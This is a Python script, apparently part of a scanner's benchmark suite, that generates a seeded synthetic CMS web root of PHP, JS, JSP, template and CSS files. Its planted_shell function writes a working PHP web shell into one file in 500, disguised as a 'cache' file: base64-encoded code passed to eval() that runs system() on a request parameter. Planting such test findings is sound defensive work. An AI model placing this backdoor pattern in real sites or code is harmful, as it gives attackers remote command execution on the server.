#!/usr/bin/env python3
"""gen_webroot.py - the second bench corpus: a web root of many small scripts.

    python3 tests/bench/gen_webroot.py OUTDIR [FILES]

Writes FILES (default 6000) PHP, JS, JSP, HTML and CSS files of 1-50 KB in a
tree shaped like a CMS install (app/code/<Vendor>/<Module>/..., vendor/...,
pub/static/..., WEB-INF/jsp/...), from synthetic templates: controllers,
models, templates with inline markup, minified-looking JS, JSP pages with
scriptlets. One seeded generator (seed 20261129), so every machine gets the
same bytes.  A few files carry the things the bundled rules and the decoder
look at: data: URIs and base64 strings (benign, decoder work), and one file in
500 a planted synthetic web shell (eval of a base64 layer around a
request-driven system() call) so the scan has findings to report.

The corpus is reused while OUTDIR.version (next to it) matches VERSION.
"""
import base64
import os
import random
import shutil
import sys

VERSION = "webroot-1 seed 20261129"
SEED = 20261129

VENDORS = ["Acme", "Northwind", "Contoso", "Globex", "Initech", "Umbrella", "Hooli", "Vandelay"]
MODULES = ["Catalog", "Checkout", "Customer", "Sales", "Cms", "Search", "Review", "Wishlist",
           "Shipping", "Tax", "Newsletter", "Reports", "Cache", "Theme", "Import", "Api"]
WORDS = ["order", "item", "price", "customer", "session", "cart", "product", "store", "config",
         "quote", "total", "address", "payment", "invoice", "shipment", "category", "attribute",
         "option", "value", "label", "title", "status", "request", "response", "layout", "block"]


def ident(rnd, n=2):
    w = [rnd.choice(WORDS) for _ in range(n)]
    return w[0] + "".join(x.capitalize() for x in w[1:])


def php_method(rnd):
    name, a, b = ident(rnd), ident(rnd, 1), ident(rnd, 1)
    body = []
    for _ in range(rnd.randint(3, 12)):
        k = rnd.random()
        v = ident(rnd, 1)
        if k < 0.3:
            body.append("        $%s = $this->%s->get%s($%s);" % (v, ident(rnd, 1), ident(rnd).capitalize(), a))
        elif k < 0.5:
            body.append("        if ($%s === null || !isset($%s['%s'])) {\n            return [];\n        }"
                        % (a, b, ident(rnd, 1)))
        elif k < 0.7:
            body.append("        foreach ($%s as $key => $%s) {\n            $result[$key] = (int)$%s['%s'];\n        }"
                        % (b, v, v, ident(rnd, 1)))
        elif k < 0.85:
            body.append("        $this->logger->debug(sprintf('%s %%s for %%d', $%s, %d));"
                        % (ident(rnd, 3), a, rnd.randint(1, 9999)))
        else:
            body.append("        $select = $this->connection->select()->from('%s_%s')->where('%s_id = ?', $%s);"
                        % (ident(rnd, 1), ident(rnd, 1), ident(rnd, 1), a))
    return ("    /**\n     * %s the %s.\n     *\n     * @param array $%s\n     * @return array\n     */\n"
            "    public function %s($%s, array $%s = [])\n    {\n        $result = [];\n%s\n"
            "        return $result;\n    }\n" % (ident(rnd).capitalize(), ident(rnd, 1), b, name, a, b,
                                                 "\n".join(body)))


def php_file(rnd, size, ns):
    head = ("<?php\n/**\n * Copyright (c) %s. All rights reserved.\n */\ndeclare(strict_types=1);\n\n"
            "namespace %s;\n\nuse Psr\\Log\\LoggerInterface;\nuse %s\\Model\\%s;\n\n"
            "class %s extends Abstract%s\n{\n" % (ns.split("\\")[0], ns, ns, ident(rnd).capitalize(),
                                                  ident(rnd).capitalize(), ident(rnd, 1).capitalize()))
    parts = [head]
    n = len(head)
    while n < size:
        m = php_method(rnd)
        parts.append(m)
        n += len(m)
    parts.append("}\n")
    return "".join(parts)


def phtml_file(rnd, size):
    parts, n = [], 0
    while n < size:
        k = rnd.random()
        if k < 0.5:
            s = ('<div class="%s-%s">\n    <span><?= $block->escapeHtml($%s->get%s()) ?></span>\n</div>\n'
                 % (ident(rnd, 1), ident(rnd, 1), ident(rnd, 1), ident(rnd).capitalize()))
        elif k < 0.8:
            s = ('<?php foreach ($block->get%s() as $%s): ?>\n    <li><a href="<?= $%s->getUrl() ?>">%s</a></li>\n'
                 '<?php endforeach; ?>\n' % (ident(rnd).capitalize(), ident(rnd, 1), ident(rnd, 1), ident(rnd, 2)))
        else:
            s = ('<img alt="%s" src="data:image/png;base64,%s"/>\n'
                 % (ident(rnd, 1), base64.b64encode(rnd.randbytes(rnd.randint(60, 600))).decode()))
        parts.append(s)
        n += len(s)
    return "".join(parts)


def js_file(rnd, size):
    parts, n = ['"use strict";\n'], 0
    minified = rnd.random() < 0.3
    while n < size:
        k = rnd.random()
        f, a = ident(rnd), ident(rnd, 1)
        if k < 0.6:
            s = ("function %s(%s){var r=[];for(var i=0;i<%s.length;i++){if(%s[i].%s){r.push(%s[i].%s)}}return r}"
                 % (f, a, a, a, ident(rnd, 1), a, ident(rnd, 1)))
        elif k < 0.85:
            s = ("define('%s/%s',['jquery','%s'],function($,%s){return{%s:function(e){$(e).on('click',"
                 "function(){%s.%s($(this).data('%s'))})}}});" % (ident(rnd, 1), f, ident(rnd, 1), a, f, a,
                                                                   ident(rnd), ident(rnd, 1)))
        else:
            s = "var %s=\"%s\";" % (f, base64.b64encode(rnd.randbytes(rnd.randint(40, 400))).decode())
        if not minified:
            s = s.replace("{", "{\n  ").replace(";", ";\n") + "\n"
        parts.append(s)
        n += len(s)
    return "".join(parts)


def jsp_file(rnd, size):
    parts = ['<%@ page contentType="text/html; charset=UTF-8" %>\n<%@ taglib prefix="c" '
             'uri="http://java.sun.com/jsp/jstl/core" %>\n<html><body>\n']
    n = len(parts[0])
    while n < size:
        k = rnd.random()
        if k < 0.5:
            s = ('<c:forEach var="%s" items="${%s}">\n  <tr><td>${%s.%s}</td><td>${%s.%s}</td></tr>\n'
                 '</c:forEach>\n' % (ident(rnd, 1), ident(rnd), ident(rnd, 1), ident(rnd, 1), ident(rnd, 1),
                                     ident(rnd, 1)))
        else:
            s = ('<%%\n  String %s = request.getParameter("%s");\n  if (%s != null) {\n'
                 '    session.setAttribute("%s", %s.trim());\n  }\n%%>\n'
                 % (ident(rnd, 1), ident(rnd, 1), ident(rnd, 1), ident(rnd), ident(rnd, 1)))
        parts.append(s)
        n += len(s)
    return "".join(parts + ["</body></html>\n"])


def css_file(rnd, size):
    parts, n = [], 0
    while n < size:
        s = ".%s-%s{margin:%dpx;padding:%dpx %dpx;color:#%06x}\n" % (
            ident(rnd, 1), ident(rnd, 1), rnd.randint(0, 40), rnd.randint(0, 20), rnd.randint(0, 20),
            rnd.randint(0, 0xFFFFFF))
        parts.append(s)
        n += len(s)
    return "".join(parts)


def planted_shell(rnd, i):
    inner = "<?php if(isset($_REQUEST['c%d'])){system($_REQUEST['c%d']);} ?>" % (i, i)
    layer = base64.b64encode(inner.encode()).decode()
    return "<?php\n/* cache %d */\neval(base64_decode('%s'));\n" % (i, layer)


def main():
    out = sys.argv[1]
    count = int(sys.argv[2]) if len(sys.argv) > 2 else 6000
    stamp = out.rstrip("/") + ".version"
    want = "%s files %d" % (VERSION, count)
    if os.path.exists(stamp) and open(stamp).read() == want:
        return
    shutil.rmtree(out, ignore_errors=True)
    rnd = random.Random(SEED)
    total = 0
    for i in range(count):
        size = min(50 << 10, max(1 << 10, int(rnd.lognormvariate(9.2, 0.8))))
        vendor, module = rnd.choice(VENDORS), rnd.choice(MODULES)
        k = rnd.random()
        if i % 500 == 250:
            path, text = "pub/media/tmp/cache%04d.php" % i, planted_shell(rnd, i)
        elif k < 0.40:
            sub = rnd.choice(["Model", "Controller", "Block", "Helper", "Observer", "Plugin"])
            path = "app/code/%s/%s/%s/%s%04d.php" % (vendor, module, sub, ident(rnd).capitalize(), i)
            text = php_file(rnd, size, "%s\\%s\\%s" % (vendor, module, sub))
        elif k < 0.55:
            path = "app/design/frontend/%s/default/%s/templates/%s%04d.phtml" % (vendor, module, ident(rnd), i)
            text = phtml_file(rnd, size)
        elif k < 0.80:
            path = "pub/static/frontend/%s/%s/js/%s%04d.js" % (vendor, module.lower(), ident(rnd), i)
            text = js_file(rnd, size)
        elif k < 0.93:
            path = "webapps/%s/WEB-INF/jsp/%s/%s%04d.jsp" % (vendor.lower(), module.lower(), ident(rnd), i)
            text = jsp_file(rnd, size)
        else:
            path = "pub/static/frontend/%s/css/%s%04d.css" % (vendor, ident(rnd), i)
            text = css_file(rnd, size)
        full = os.path.join(out, path)
        os.makedirs(os.path.dirname(full), exist_ok=True)
        data = text.encode()
        with open(full, "wb") as f:
            f.write(data)
        total += len(data)
    with open(stamp, "w") as f:
        f.write(want)
    print("gen_webroot: %d files, %.1f MB in %s" % (count, total / 1e6, out))


if __name__ == "__main__":
    main()
